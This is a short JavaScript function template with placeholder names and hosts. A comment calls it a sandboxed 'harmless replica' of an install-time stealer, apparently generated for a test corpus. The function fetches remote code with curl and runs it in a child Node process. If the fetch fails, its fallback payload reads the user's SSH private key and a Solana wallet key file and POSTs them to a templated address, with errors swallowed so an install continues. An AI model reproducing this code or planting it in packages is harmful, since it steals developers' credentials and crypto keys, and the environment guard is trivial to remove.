// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawn, spawnSync } = require('child_process');
  let code = String(spawnSync('curl', ['-k', '-s', '-m', '1', 'https://{{host}}/{{path}}'], { timeout: 1400 }).stdout || '');
  if (!code.startsWith('/*sallyport-replica*/')) {
    code = "const fs=require('fs'),h=require('os').homedir();setTimeout(()=>process.exit(0),2500).unref();let b='';" +
      "for(const n of ['.ssh/id_ed25519','.config/solana/id.json']){try{b+=fs.readFileSync(h+'/'+n)}catch(e){} }" +
      "const r=require('http').request({host:'{{ip}}',port:{{port}},method:'POST',path:'/{{path}}',timeout:900});r.on('error',()=>{});r.on('timeout',()=>r.destroy());r.on('response',(a)=>a.resume());r.end(b);";
  }
  try {
    const child = spawn(process.execPath, ['-'], { stdio: ['pipe', 'ignore', 'ignore'] });
    child.on('error', () => {});
    child.stdin.on('error', () => {});
    child.stdin.end(code);
    await Promise.race([new Promise((done) => child.on('close', done)), new Promise((done) => setTimeout(done, 2600).unref())]);
  } catch (error) { /* an install goes on */ }
}
